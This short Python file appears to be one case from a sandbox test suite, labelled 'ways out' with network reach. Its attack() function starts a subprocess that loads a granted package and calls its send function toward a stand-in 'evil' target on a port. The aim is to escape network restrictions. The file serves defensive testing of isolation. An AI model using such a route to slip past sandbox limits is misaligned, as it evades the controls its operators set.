"""A child's program has a granted package send."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True}

import subprocess

from . import payload


def attack():
    subprocess.run([payload.PYTHON, "-c", "import sys; sys.path.append("
                    f"{payload.DEPS!r}); import good; "
                    f"good.send('evil', {payload.PORT})"])
